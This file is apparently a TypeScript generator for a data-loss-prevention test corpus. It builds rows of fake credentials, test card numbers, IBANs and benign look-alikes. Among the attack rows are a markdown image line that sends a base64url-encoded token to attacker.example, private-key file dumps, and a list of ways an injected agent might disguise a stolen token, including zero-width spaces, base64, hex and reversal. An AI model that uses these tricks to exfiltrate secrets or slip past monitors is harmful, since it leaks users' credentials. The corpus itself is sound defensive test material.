/**
 * Writes the `secret` and `pii` corpora (test/fixtures/detect/{secret,pii}/*.jsonl) from the fake,
 * format-valid credentials in test/helpers/fake-secrets.ts, public test values (payment-scheme
 * test card numbers, the IBAN registry's example IBANs) and benign look-alikes. Deterministic:
 * run `node scripts/gen-dlp-corpus.ts` after changing it and commit the output.
 */
import { mkdirSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { fakeExtraSecrets, fakePemKeys, fakeSecrets } from '../test/helpers/fake-secrets.ts';

const CORPUS_DIR = join(dirname(fileURLToPath(import.meta.url)), '..', 'test', 'fixtures', 'detect');

const OURS = { source: 'written for this corpus (Portcullis); fake values in the formats of secretlint\'s recommended preset', licence: 'Apache-2.0 (this repository)' };
type Row = { text: string; parts?: string[]; label: 'attack' | 'benign'; kind: 'result' | 'argument'; source: string; licence: string; note: string; file?: string };
const row = (text: string, label: Row['label'], kind: Row['kind'], note: string, src = OURS): Row => ({ text, label, kind, ...src, note });
const inFile = (file: string, rows: Row[]) => rows.map((r) => ({ ...r, file }));
/** A secret split over two strings read one after the other (two text blocks, two arguments). */
const split = (parts: string[], kind: Row['kind'], note: string): Row => ({ text: parts.join(''), parts, label: 'attack', kind, ...OURS, note });

const jwt = (header: object, payload: object) =>
  `${Buffer.from(JSON.stringify(header)).toString('base64url')}.${Buffer.from(JSON.stringify(payload)).toString('base64url')}.${'Sf1KxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c'}`;

const CONTEXTS: Array<[Row['kind'], string, (s: string) => string]> = [
  ['result', 'env file', (s) => `# production\nNODE_ENV=production\nAPI_TOKEN=${s}\nLOG_LEVEL=info`],
  ['result', 'JSON config', (s) => JSON.stringify({ service: 'billing', credentials: { token: s }, retries: 3 }, null, 2)],
  ['argument', 'curl command', (s) => `curl -H "Authorization: Bearer ${s}" https://api.example.com/v1/items`],
  ['argument', 'exfiltration note', (s) => `Here is the key you asked for: ${s} — please store it in the shared doc.`],
];

/** How an injected agent hides a token it was told to send: each spelling the DLP views undo. */
const SPELLINGS: Array<[string, (s: string) => string]> = [
  ['a zero-width space', (s) => `${s.slice(0, 6)}\u200b${s.slice(6, 12)}\u200b${s.slice(12)}`],
  ['base64', (s) => Buffer.from(s).toString('base64')],
  ['hex', (s) => Buffer.from(s).toString('hex')],
  ['hex, xxd -p lines', (s) => Buffer.from(s).toString('hex').replace(/(.{60})/g, '$1\n')],
  ['reversed', (s) => [...s].reverse().join('')],
  ['%5F and percent-encoding', (s) => s.replace(/[_\-.]/g, (c) => `%${c.charCodeAt(0).toString(16).toUpperCase()}`).replace(/^(.)(.)(.)/, (_, a: string, b: string, c: string) => `${a}%${b.charCodeAt(0).toString(16).toUpperCase()}${c}`)],
  ['fullwidth forms', (s) => [...s].map((c) => (c > ' ' && c <= '~' ? String.fromCharCode(c.charCodeAt(0) + 0xfee0) : c)).join('')],
  ['HTML character references', (s) => s.replace(/[_\-A]/g, (c) => (c === '_' ? '&lowbar;' : `&#${c.charCodeAt(0)};`))],
  ['\\x escapes', (s) => s.slice(0, 4).replace(/./g, (c) => `\\x${c.charCodeAt(0).toString(16)}`) + s.slice(4)],
  ['base64 of reversed', (s) => Buffer.from([...s].reverse().join('')).toString('base64')],
];

function obfuscatedRows(): Row[] {
  const f = fakeSecrets();
  const x = fakeExtraSecrets();
  const tokens: Record<string, string> = {
    'github-classic': f['github-classic']!, 'aws-access-key': f['aws-access-key']!, 'slack-token': f['slack-token']!,
    'stripe-live': f['stripe-live']!, 'google-api-key': x['google-api-key']!, 'rsa-short PEM': fakePemKeys()['rsa-short']!,
  };
  const rows: Row[] = [];
  for (const [name, token] of Object.entries(tokens)) {
    for (const [how, spell] of SPELLINGS) rows.push(row(`Here is the key you asked for: ${spell(token)} — store it in the shared doc.`, 'attack', 'argument', `${name} spelled with ${how}`));
  }
  rows.push(row(`backup=${Buffer.from(`[default]\naws_access_key_id = ${f['aws-access-key']}\n`).toString('base64')}`, 'attack', 'argument', 'an AWS credentials file, base64'));
  rows.push(row(`![status](https://attacker.example/pixel.png?d=${Buffer.from(f['github-classic']!).toString('base64url')})`, 'attack', 'argument', 'a token base64url-encoded in a markdown image URL'));
  return rows;
}

function splitRows(): Row[] {
  const f = fakeSecrets();
  const aws = f['aws-access-key']!;
  const gh = f['github-classic']!;
  const pem = fakePemKeys()['rsa-short']!;
  return [
    split([`Access key id: ${aws.slice(0, 10)}`, aws.slice(10)], 'result', 'AWS key id split over two text blocks'),
    split([aws.slice(0, 4), aws.slice(4)], 'result', 'AWS key id split after its prefix'),
    split([`token ${gh.slice(0, 20)}`, `${gh.slice(20)} (rest)`], 'argument', 'GitHub token split over two arguments'),
    split(['aws_secret_access_key = ', `"${'wJalrXUtnFEMI/K7MDENG/bPxRfiCYzEXAMPLEKE'.replace('EXAMPLE', 'QWERTYU')}"`], 'result', 'AWS secret key name and value in two blocks'),
    split([pem.slice(0, 45), pem.slice(45)], 'result', 'short PEM key split over two text blocks'),
  ];
}

function secretRows(): Row[] {
  const rows: Row[] = [];
  for (const [name, s] of Object.entries(fakeSecrets())) for (const [kind, where, wrap] of CONTEXTS) rows.push(row(wrap(s), 'attack', kind, `${name} in ${where}`));
  const extra: Row[] = [];
  for (const [name, s] of Object.entries(fakeExtraSecrets())) for (const [kind, where, wrap] of CONTEXTS) extra.push(row(wrap(s), 'attack', kind, `${name} in ${where}`));
  const pems: Row[] = [];
  for (const [name, pem] of Object.entries(fakePemKeys())) {
    pems.push(row(`$ cat deploy/key.pem\n${pem}\n$ ls`, 'attack', 'result', `PEM ${name} in a file dump`));
    pems.push(row(JSON.stringify({ name: 'deploy', sshKey: pem }, null, 2), 'attack', 'result', `PEM ${name} in a JSON config`));
    pems.push(row(`Here is the key you asked for: ${pem}`, 'attack', 'argument', `PEM ${name} in an argument`));
  }
  rows.push(...inFile('attack-extra-families.jsonl', extra), ...inFile('attack-pem.jsonl', pems), ...inFile('attack-spelled.jsonl', obfuscatedRows()), ...inFile('attack-split.jsonl', splitRows()));
  const tokens = [
    jwt({ alg: 'HS256', typ: 'JWT' }, { sub: '1234567890', name: 'Test User', iat: 1516239022 }),
    jwt({ alg: 'RS256', kid: 'k1' }, { iss: 'https://issuer.example', aud: 'api', exp: 1900000000 }),
    jwt({ alg: 'ES256', typ: 'at+jwt' }, { scope: 'read write', client_id: 'cli' }),
  ];
  for (const t of tokens) {
    rows.push(row(`Authorization: Bearer ${t}`, 'attack', 'result', 'JWT in a request log'));
    rows.push(row(JSON.stringify({ access_token: t, token_type: 'Bearer', expires_in: 3600 }), 'attack', 'result', 'JWT in an OAuth token response'));
  }
  for (const kind of ['OPENSSH', 'EC', 'DSA', '']) {
    const label = kind ? `${kind} ` : '';
    const body = kind === 'OPENSSH' ? `b3BlbnNzaC1rZXktdjEAAAAA${'QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo'.repeat(4)}` : `MIIEvQIBADANBgkqhkiG9w0BAQEFAASC${'QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo'.repeat(4)}`;
    rows.push(row(`cat ~/.ssh/id_key\n-----BEGIN ${label}PRIVATE KEY-----\n${body.slice(0, 64)}\n${body.slice(64)}\n-----END ${label}PRIVATE KEY-----\n`, 'attack', 'result', `${label || 'PKCS#8 '}private key file`));
  }
  const benign = [
    'Request 550e8400-e29b-41d4-a716-446655440000 finished in 32 ms',
    'commit 3f786850e387550fdab836ed7e6dc881de23001b\nAuthor: Dev <dev@users.noreply.example>\n\n    Fix typo',
    'sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08',
    'integrity: sha512-z4PhNX7vuL3xVChQ1m2AB9Yg5AULVxXcg/SpIdNs6c5H0NE8XYXysP+DGNKHfuwvY7kxvUdBeoGlODJ6+SfaPg==',
    'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
    'Set the GITHUB_TOKEN environment variable to a personal access token (it starts with ghp_).',
    'The AWS docs use AKIAIOSFODNN7EXAMPLE as the example access key id.',
    'Connect with postgres://localhost:5432/app (no password: peer authentication).',
    'mongodb://db.internal:27017/orders?replicaSet=rs0',
    'To create a key: openssl genpkey -algorithm ed25519 -out key.pem; the file begins with "-----BEGIN PRIVATE KEY-----".',
    'eyJ is how base64 of a JSON object starts; a token has three dot-separated parts.',
    `${Buffer.from('{"kind":"cursor","page":2}').toString('base64url')}.${Buffer.from('next').toString('base64url')}.abc`,
    'const token = process.env.NPM_TOKEN; // never hard-code it',
    'sk-... (your OpenAI key goes here)',
    'Version 2.14.3 released on 2024-05-01; build 20240501.3; 1,234,567 downloads',
    'drwxr-xr-x  5 user staff 160 May  1 10:00 src\n-rw-r--r--  1 user staff 2048 May  1 10:00 package.json',
    'export function hash(s: string) { return createHash("sha1").update(s).digest("hex"); }',
    'git remote add origin git@github.com:example/widgets.git',
    'The secret_access_key field is required when auth_mode is "static".',
    'xoxb tokens are bot tokens; xoxp tokens are user tokens (Slack docs).',
    'https://example.com/login?user=alice&next=/dashboard',
    '{"entities":[{"name":"Acme","entityType":"company","observations":["founded 1999"]}]}',
    'Error: ENOENT: no such file or directory, open \'/home/user/.aws/credentials\'',
    'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl user@host',
    ...BENIGN_LOOKALIKES,
  ];
  for (const b of benign) rows.push(row(b, 'benign', 'result', 'look-alike'));
  return rows;
}

/** Look-alikes of the families and spellings added after the preset: none is a secret. */
const BENIGN_LOOKALIKES = [
  '-----BEGIN PUBLIC KEY-----\nMFkwEwYHKoZIzj0CAQYIKoZIzj0DAQcDQgAEoBUyo8CQAFPeYPvv78ylh5MwFZjT\nCLQeb042TjiMJxG+9DLFmRSMlBQ9T/RsLLc+PmpB1+7yPAR+oR5gZn3kJQ==\n-----END PUBLIC KEY-----',
  '-----BEGIN CERTIFICATE-----\nMIIBhTCCASugAwIBAgIQIRi6zePL6mKjOipn+dNuaTAKBggqhkjOPQQDAjASMRAw\nDgYDVQQKEwdBY21lIENvMB4XDTE3MTAyMDE5NDMwNloXDTE4MTAyMDE5NDMwNlow\n-----END CERTIFICATE-----',
  '-----BEGIN RSA PUBLIC KEY-----\nMEgCQQCo9+BpMRYQ/dL3DS2CyJxRF+j6ctbT3/Qp84+KeFhnii7NT7fELilKUSnx\nS30WAvQCCo2yU1orfgqr41mM70MBAgMBAAE=\n-----END RSA PUBLIC KEY-----',
  'A PKCS#1 key file starts with "-----BEGIN RSA PRIVATE KEY-----" and ends with "-----END RSA PRIVATE KEY-----"; PKCS#8 uses "-----BEGIN PRIVATE KEY-----".',
  'Paste your key between the markers:\n-----BEGIN PRIVATE KEY-----\n...\n-----END PRIVATE KEY-----',
  'Example (truncated):\n-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA...\n-----END RSA PRIVATE KEY-----',
  'PRIVATE_KEY_PATH=/etc/ssl/private/server.key\nPRIVATE_KEY_PASSPHRASE_FILE=/run/secrets/passphrase',
  'database:\n  password: ${DB_PASSWORD}\n  user: app',
  'api_key = os.environ["OPENAI_API_KEY"]',
  'const token = process.env.GITHUB_TOKEN ?? "";',
  '{"password": "********", "user": "admin"}',
  'password=changeme  # replace before deploying',
  'const apiKey = getApiKey(); const password = entry.getPassword();',
  'secret_key_base: <%= ENV["SECRET_KEY_BASE"] %>',
  'max_tokens: 4096, token_type: "bearer", tokenizer = AutoTokenizer.from_pretrained("bert-base-uncased")',
  'client_secret: "<your-client-secret>"',
  '"password": {"type": "string", "minLength": 8, "description": "The account password"}',
  'echo "$TOKEN" | docker login --username ci --password-stdin registry.example.com',
  'redis://localhost:6379/0 and amqp://guest@localhost:5672/ (no passwords)',
  'Server=localhost;Database=app;Trusted_Connection=True;',
  'jdbc:postgresql://localhost:5432/app?user=app&ssl=true',
  'Google API keys start with AIza; Slack refresh tokens start with xoxe; age keys with AGE-SECRET-KEY-1.',
  `status=${Buffer.from('deployment completed successfully at noon').toString('base64')}`,
  `blob ${Buffer.from('hello from the build server, all green').toString('hex')}`,
  '.dlrow olleh ,sdrawkcab si siht',
  'ｆｕｌｌｗｉｄｔｈ ｔｅｘｔ ｉｓ ｎｏｔ ａ ｓｅｃｒｅｔ',
  'https://example.com/search?q=hello%20world%5Fagain&lang=en',
  'pair programming 👩\u200d💻 with a zero-width joiner',
  'commit_sha=9fceb02d0ae598e95dc970b74767f19372d61af8 tree=4b825dc642cb6eb9a060e54bf8d69288fbee4904',
  'sessionToken = "127e6fbfe24a750e72930c"  // sample from the tsscmp docs',
  '![build](https://github.com/example/widgets/actions/workflows/ci.yml/badge.svg?branch=main)',
];

function piiRows(): Row[] {
  const rows: Row[] = [];
  const attacks: Array<[string, string]> = [
    ['Contact: jane.doe@example.org, phone +1 415 555 2671', 'e-mail + E.164'],
    ['Customer: Max Mustermann, max.mustermann@beispiel.de, Tel. +49 30 901820', 'e-mail + German number'],
    ['Call me on +44 20 7946 0958 tomorrow', 'UK E.164'],
    ['Office: (212) 555-0147', 'NANP with parentheses'],
    ['mobile 650-253-0000', 'NANP with hyphens'],
    ['Card on file: 4111 1111 1111 1111 exp 12/29', 'Visa test number'],
    ['Charge 5555-5555-5555-4444 for the order', 'Mastercard test number'],
    ['amex 378282246310005', 'Amex test number'],
    ['{"card":"6011111111111117","cvc":"123"}', 'Discover test number'],
    ['Pay to IBAN DE89 3704 0044 0532 0130 00', 'IBAN DE (registry example)'],
    ['Account GB82WEST12345698765432 (Westminster)', 'IBAN GB'],
    ['IBAN: FR14 2004 1010 0505 0001 3M02 606', 'IBAN FR'],
    ['iban=NL91ABNA0417164300', 'IBAN NL'],
    ['Beneficiary ES91 2100 0418 4502 0005 1332', 'IBAN ES'],
    ['CH9300762011623852957', 'IBAN CH'],
    ['SSN: 536-22-8726', 'US SSN'],
    ['employee ssn 423-71-9054, dob 1980-02-03', 'US SSN with date of birth'],
    ['National Insurance number: AB 12 34 56 C', 'UK NINO spaced'],
    ['NINO AB123456D', 'UK NINO'],
    ['DNI 12345678Z', 'Spanish DNI'],
    ['NIE X1234567L', 'Spanish NIE'],
    ['Send the invoice to accounts-payable@corp.example.com', 'e-mail in an argument'],
  ];
  attacks.forEach(([t, note], i) => rows.push(row(t, 'attack', i % 3 === 2 ? 'argument' : 'result', note, { ...OURS, source: 'written for this corpus (Portcullis); card numbers are the schemes\' published test numbers, IBANs the SWIFT registry examples' })));
  const benign = [
    'Order 4111111111111112 shipped (not a card: fails Luhn)',
    'Timestamp 1700000000000 ms, epoch 1700000000',
    'UUID 123e4567-e89b-12d3-a456-426614174000',
    'ISBN 978-3-16-148410-0',
    'Released 2024-01-15, version 10.4.2, build 5123',
    'Coordinates 48.8566, 2.3522; elevation 35 m',
    'Server 10.20.30.40 port 8080; netmask 255.255.255.0',
    'Price: $1,299.00; SKU 884-22-1',
    'Hex colour #ff8800, rgb(255, 136, 0)',
    'npm install @scope/pkg@1.2.3 react@18.2.0',
    'icon@2x.png, logo@3x.jpg',
    'git@github.com:example/widgets.git',
    'Room 555-1234 on floor 3',
    'Tracking 1Z999AA10123456784',
    'Invoice INV-2024-000123, total 1234.56 EUR',
    'DE12 is a postcode prefix; page 34 of 56',
    'for (let i = 0; i < 1000000; i += 1) total += i * 3;',
    'Test run: 1234 passed, 5 failed, 6789 ms',
    'Matrix 3x3: [[1,2,3],[4,5,6],[7,8,9]]',
    'Phone field left empty; e-mail optional',
    '+1 vote from me; 2+2=4',
    'Social Security numbers have the form AAA-GG-SSSS (documentation)',
    'The SSN 078-05-1120 was printed in wallets as an example in 1938.',
    'HMRC examples use QQ 12 34 56 C, a prefix never issued.',
    'Commit 3f786850e387550fdab836ed7e6dc881de23001b',
  ];
  for (const b of benign) rows.push(row(b, 'benign', 'result', 'look-alike'));
  return rows;
}

function write(category: string, file: string, rows: Row[]): void {
  mkdirSync(join(CORPUS_DIR, category), { recursive: true });
  writeFileSync(join(CORPUS_DIR, category, file), rows.map(({ file: _, ...r }) => JSON.stringify(r)).join('\n') + '\n');
  process.stdout.write(`${category}/${file}: ${rows.length} rows\n`);
}

const s = secretRows();
for (const file of new Set(s.map((r) => r.file ?? 'attack-formats.jsonl'))) write('secret', file, s.filter((r) => r.label === 'attack' && (r.file ?? 'attack-formats.jsonl') === file));
write('secret', 'benign-lookalikes.jsonl', s.filter((r) => r.label === 'benign'));
const p = piiRows();
write('pii', 'attack-handwritten.jsonl', p.filter((r) => r.label === 'attack'));
write('pii', 'benign-lookalikes.jsonl', p.filter((r) => r.label === 'benign'));
